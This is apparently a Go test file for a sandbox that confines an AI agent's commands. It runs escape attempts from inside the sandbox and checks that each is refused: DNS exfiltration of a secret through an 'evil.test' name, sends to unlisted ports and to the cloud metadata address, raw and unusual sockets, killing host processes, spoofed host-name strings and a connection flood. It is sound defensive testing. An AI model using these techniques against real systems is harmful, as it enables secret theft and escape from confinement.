//go:build linux

package main

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/sys/unix"
)

// Ports: the two users attack at the same time. The kernel gives none of these to who asks for any.
var (
	listed   = 29101 + 10*min(os.Geteuid(), 1)
	unlisted = listed + 1
)

// The addresses of the world. Root's run, and what it starts, has a network namespace of its own, where nobody else listens; an
// ordinary user's run from the start is on the host's loopback.
const (
	listedIP, otherIP = "127.0.0.3", "127.0.0.4"
	metadata          = "169.254.169.254"
)

var networkAttacks = []attack{
	{id: "43", play: func(w *world) {
		e := w.ear("udp", "127.0.0.1:0")
		w.refused(w.sends("a datagram to a name server", "udp", e), attempt{"a query that carries the secret", []string{"dns", e.address, "TOKEN/.evil.test"}, func(l *layout, _ output) bool {
			return e.has(w, l.Token+"/")
		}, ""})
		o := w.inside("resolve", w.real.Token+".evil.test")
		w.check("getaddrinfo of a name with the secret", o.made() && !o.OK, "%v", o)
		o = w.sh("cat /etc/resolv.conf; ls /run/systemd /run 2>&1; getent hosts " + w.real.Token + ".evil.test; echo end")
		w.check("the resolver's socket and configuration", strings.Contains(o.Text, "end") && !strings.Contains(o.Text, "nameserver"), "%s", oneLine(o.Text, 160))
	}},
	{id: "44", play: func(w *world) {
		for _, address := range []string{"127.0.0.1:0", "[::1]:0", "127.0.0.2:0"} {
			w.refused(w.sends("TCP to "+address+", network none", "tcp", w.ear("tcp", address)), w.sends("UDP to "+address, "udp", w.ear("udp", address)))
		}
		any := w.ear("tcp", "0.0.0.0:0")
		any.address = strings.Replace(any.address, "[::]", "0.0.0.0", 1)
		w.refused(w.sends("TCP to 0.0.0.0", "tcp", any))
	}},
	{id: "44", set: settings{network: fmt.Sprintf("{access: local, local_endpoints: [%d]}", listed)}, play: func(w *world) {
		good := w.ear("tcp", fmt.Sprint("127.0.0.1:", listed))
		p := w.sends("TCP to the listed port", "tcp", good)
		w.succeeds(p)
		for _, address := range []string{fmt.Sprint("127.0.0.1:", unlisted), fmt.Sprintf("[::1]:%d", unlisted), fmt.Sprint("127.0.0.2:", listed), fmt.Sprint("127.0.0.5:", unlisted)} {
			w.refused(w.sends("TCP to "+address+", network local", "tcp", w.ear("tcp", address)))
		}
		w.refused(w.sends("UDP to the listed port", "udp", w.ear("udp", fmt.Sprint("127.0.0.1:", listed))))
	}},
	{id: "45", set: settings{network: fmt.Sprintf("{access: restricted, restricted_endpoints: [{host: %s, ports: [%d]}]}", listedIP, listed)}, play: func(w *world) {
		w.succeeds(w.sends("TCP to the listed address and port", "tcp", w.ear("tcp", fmt.Sprint(listedIP, ":", listed))))
		for what, address := range map[string]string{"the listed address, another port": fmt.Sprint(listedIP, ":", unlisted), "another address, the listed port": fmt.Sprint(otherIP, ":", listed),
			"127.0.0.1, the listed port": fmt.Sprint("127.0.0.1:", listed)} {
			w.refused(w.sends(what, "tcp", w.ear("tcp", address)))
		}
		w.refused(attempt{"sending that connects on the way (TCP fast open)", []string{"tcp-fastopen", otherIP, fmt.Sprint(unlisted), "TOKEN/"}, w.sends("", "", w.ear("tcp", fmt.Sprint(otherIP, ":", unlisted))).effect, "fast open is off here"})
		port := 80
		if os.Geteuid() != 0 {
			port = unlisted // 80 is root's
		}
		address := fmt.Sprintf("%s:%d", metadata, port)
		l, err := net.Listen("tcp", address)
		if errors.Is(err, unix.EADDRNOTAVAIL) {
			o := w.inside("tcp", address, "x")
			w.row(blocked, "the metadata address", fmt.Sprintf("inside %v; without root the machine has no such address", o))
			return
		}
		if err == nil {
			l.Close()
		}
		w.refused(w.sends("the metadata address", "tcp", w.ear("tcp", address)))
	}},
	{id: "47", play: hostNames},
	{id: "48", play: func(w *world) {
		stream, datagram := map[*layout]*ear{}, map[*layout]*ear{}
		for _, l := range []*layout{w.real, w.twin} {
			stream[l], datagram[l] = w.ear("unix", l.W+"/st.sock"), w.ear("unixgram", l.W+"/dg.sock")
		}
		has := func(of map[*layout]*ear, text string) effect {
			return func(l *layout, _ output) bool { return of[l].has(w, l.Token+text) }
		}
		w.refused(attempt{"connect to a socket file of the workspace", []string{"unix", "W/st.sock", "TOKEN/1"}, has(stream, "/1"), ""},
			attempt{"a datagram to one", []string{"unix-datagram", "W/dg.sock", "TOKEN/2"}, has(datagram, "/2"), ""},
			attempt{"a datagram from one end of a pair", []string{"pair-datagram", "W/dg.sock", "TOKEN/3"}, has(datagram, "/3"), ""})
		o := w.inside("pair-stream")
		w.check("a pair of stream sockets", o.OK, "works, as it must: %v", o)
	}},
	{id: "50", play: func(w *world) {
		e := w.ear("unix", fmt.Sprintf("@sekisho-attack-%d", os.Getpid()))
		w.refused(attempt{"connect to an abstract name of the host", []string{"unix", e.address, "TOKEN"}, func(l *layout, _ output) bool { return e.has(w, l.Token) }, ""})
		w.bystander()
		pid := w.twin.Victim
		dead := func() bool {
			_, rest, _ := strings.Cut(reads("/proc/"+pid+"/stat"), ") ")
			return rest == "" || rest[0] == 'Z'
		}
		o := w.inside("kill", pid, "9")
		alive := !w.await(300*time.Millisecond, dead)
		control := w.outside("kill", pid, "9")
		w.check("kill a process of the host by its id", alive && o.made() && w.await(2*time.Second, dead), "%v, it lived on; control: %v", o, control)
	}},
	{id: "51", play: func(w *world) {
		none := "this kernel has no such socket"
		if os.Geteuid() != 0 {
			none = "this kernel has no such socket, or only root may have one"
		}
		for _, s := range []struct {
			what                   string
			domain, kind, protocol int
		}{{"AF_VSOCK", unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {"AF_PACKET", unix.AF_PACKET, unix.SOCK_RAW, 0}, {"raw IP", unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW},
			{"ICMP", unix.AF_INET, unix.SOCK_DGRAM, unix.IPPROTO_ICMP}, {"AF_ALG", unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, {"netlink netfilter", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_NETFILTER},
			{"netlink route", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE}, {"netlink audit", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT}, {"MPTCP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_MPTCP},
			{"SCTP", unix.AF_INET, unix.SOCK_STREAM, unix.IPPROTO_SCTP}, {"AF_XDP", unix.AF_XDP, unix.SOCK_RAW, 0}, {"Bluetooth", unix.AF_BLUETOOTH, unix.SOCK_RAW, 1}, {"AF_UNIX", unix.AF_UNIX, unix.SOCK_STREAM, 0},
			{"UDP", unix.AF_INET, unix.SOCK_DGRAM, 0}, {"AF_TIPC", unix.AF_TIPC, unix.SOCK_RDM, 0}, {"AF_KCM", unix.AF_KCM, unix.SOCK_DGRAM, 0}, {"AF_RDS", unix.AF_RDS, unix.SOCK_SEQPACKET, 0}} {
			w.refused(attempt{"a socket of " + s.what, []string{"socket", strconv.Itoa(s.domain), strconv.Itoa(s.kind), strconv.Itoa(s.protocol)}, reached, none})
		}
	}},
	{id: "52", set: settings{network: fmt.Sprintf("{access: local, local_endpoints: [%d]}", listed)}, play: exhaustion},
}

// hostNames: names that mean another host than they seem to are refused at apply, or shown as what they mean.
func hostNames(w *world) {
	try := func(host string, port int) (string, error) {
		yaml := w.s.yaml(w.cgroup, settings{network: fmt.Sprintf("{access: restricted, restricted_endpoints: [{host: %s, ports: [%d]}]}", host, port)})
		if err := write(w.s.config, yaml); err != nil {
			return "", err
		}
		if err := w.s.apply(w.ctx); err != nil {
			return err.Error(), err
		}
		out, err := w.s.command(w.ctx, w.s.program, "show", w.s.config).CombinedOutput()
		return string(out), err
	}
	_, err := try("good.example.com", 443)
	w.check("control: an ordinary name", err == nil, "applied")
	for _, c := range []struct{ host, want string }{
		{`"evil\0.good.example.com"`, ""}, {`"GOOD.example.com."`, "good.example.com"}, {`"0x7f.1"`, ""}, {`"127.1"`, ""}, {`"2130706433"`, ""}, {`"017700000001"`, ""}, {`"good.example.com/x"`, ""},
		{`"user@good.example.com"`, ""}, {`"good.example.com:443"`, ""}, {`"*.example.com"`, ""}, {`"0.0.0.0"`, ""}, {`"[::]"`, ""}, {`"::ffff:127.0.0.1"`, "127.0.0.1"}, {`"fe80::1%lo"`, ""}, {`"-a.example.com"`, ""},
		{`"ｇｏｏｄ.example.com"`, "good.example.com"}, {`"gооd.example.com"`, "xn--"}, {`"a..b"`, ""}, {`"localhost"`, ""}, {`"255.255.255.255"`, ""}, {`"224.0.0.1"`, ""}, {`""`, ""},
	} {
		text, err := try(c.host, 443)
		line := ""
		for l := range strings.Lines(text) {
			if err != nil && strings.Contains(l, "host") || err == nil && strings.Contains(l, "443") {
				line = l
				break
			}
		}
		w.check("host "+c.host, err != nil && strings.Contains(text, "configuration.invalid") || err == nil && c.want != "" && strings.Contains(text, c.want), "refused or canonical: %s", oneLine(line, 160))
	}
}

// exhaustion makes many connections to the allowed port, reads slowly, and closes one half.
func exhaustion(w *world) {
	const many = 600
	e := w.ear("tcp", fmt.Sprint("127.0.0.1:", listed))
	e.hold = 3 * time.Second
	control := w.outside("tcp-flood", fmt.Sprint("127.0.0.1:", listed), fmt.Sprint(many), "3")
	made := func(o output) (n int) { fmt.Sscan(o.Detail, &n); return n }
	before := e.at()
	o := w.inside("tcp-flood", fmt.Sprint("127.0.0.1:", listed), fmt.Sprint(many), "3")
	arrived := e.at() - before
	w.check(fmt.Sprintf("%d connections to the allowed port", many), made(control) > many*9/10 && arrived > 0 && arrived < many/2, "%d reached the host, the rest found the cap; of the control's %d", arrived, made(control))
	e.hold = 0
	fds, _ := os.ReadDir(fmt.Sprintf("/proc/%d/fd", w.v.cmd.Process.Pid))
	o = w.inside("tcp-ask", fmt.Sprint("127.0.0.1:", listed), w.real.Token+"/after")
	w.check("a connection after them, with its half closed", o.OK && e.has(w, w.real.Token+"/after"), "%v; the server has %d descriptors", o, len(fds))
	begun := time.Now()
	status, err := w.v.tool(w.ctx, "agent_status", map[string]any{"task_id": w.v.task})
	w.check("the server answers", err == nil && time.Since(begun) < 2*time.Second, "%s", field(status, "status"))
}

// sends is an attempt that sends the layout's token and its own name to an ear.
func (w *world) sends(what, action string, e *ear) attempt {
	return attempt{what, []string{action, e.address, "TOKEN/" + what}, func(l *layout, _ output) bool { return e.has(w, l.Token+"/"+what) }, ""}
}

// ear is a listener of the host that remembers what reached it.
type ear struct {
	address string
	hold    time.Duration // how long a connection is kept before it is read
	mu      sync.Mutex
	heard   strings.Builder
	count   int
	closers []io.Closer
	owned   sync.WaitGroup
}

func (w *world) ear(network, address string) *ear {
	e := &ear{address: address}
	if err := e.listen(w.ctx, network); err != nil {
		w.row(failed, "listening on "+network+" "+address, err.Error())
	}
	w.closers = append(w.closers, func() {
		for _, c := range e.closers {
			c.Close()
		}
		e.owned.Wait()
	})
	return e
}

func (e *ear) listen(ctx context.Context, network string) error {
	if network == "udp" || network == "unixgram" {
		c, err := net.ListenPacket(network, e.address)
		if err != nil {
			return err
		}
		e.address, e.closers = c.LocalAddr().String(), append(e.closers, c)
		e.owned.Go(func() {
			for buf := make([]byte, 2048); ; {
				n, _, err := c.ReadFrom(buf)
				if err != nil {
					return
				}
				e.note(buf[:n])
			}
		})
		return nil
	}
	l, err := net.Listen(network, e.address)
	if err != nil {
		return err
	}
	e.address, e.closers = l.Addr().String(), append(e.closers, l)
	e.owned.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			e.owned.Go(func() {
				defer c.Close()
				e.mu.Lock()
				e.count++
				hold := e.hold
				e.mu.Unlock()
				stop := context.AfterFunc(ctx, func() { c.Close() })
				defer stop()
				time.Sleep(hold)
				c.SetDeadline(time.Now().Add(5 * time.Second))
				b, _ := io.ReadAll(io.LimitReader(c, 1<<16))
				e.note(b)
			})
		}
	})
	return nil
}

func (e *ear) note(b []byte) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.heard.Write(b)
}

func (e *ear) at() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.count
}

// has tells whether the text arrived, at the latest a moment from now.
func (e *ear) has(w *world, text string) bool {
	return w.await(200*time.Millisecond, func() bool {
		e.mu.Lock()
		defer e.mu.Unlock()
		return strings.Contains(e.heard.String(), text)
	})
}

// ownNetwork runs this program once more in a network namespace of its own, with a loopback and the metadata address on it.
func ownNetwork(ctx context.Context) error {
	cmd := exec.CommandContext(ctx, "/proc/self/exe", append(os.Args[1:], "-inside")...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	cmd.SysProcAttr = &unix.SysProcAttr{Cloneflags: unix.CLONE_NEWNET}
	cmd.Cancel = func() error { return cmd.Process.Signal(unix.SIGTERM) }
	cmd.WaitDelay = time.Minute
	return cmd.Run()
}

// furnish gives the own network namespace its loopback, and everybody in it sockets for ping.
func furnish() error {
	for _, args := range [][]string{{"link", "set", "lo", "up"}, {"addr", "add", metadata + "/32", "dev", "lo"}} {
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			return errors.Join(err, errors.New(string(out)))
		}
	}
	return os.WriteFile("/proc/sys/net/ipv4/ping_group_range", []byte("0 2147483647"), 0)
}
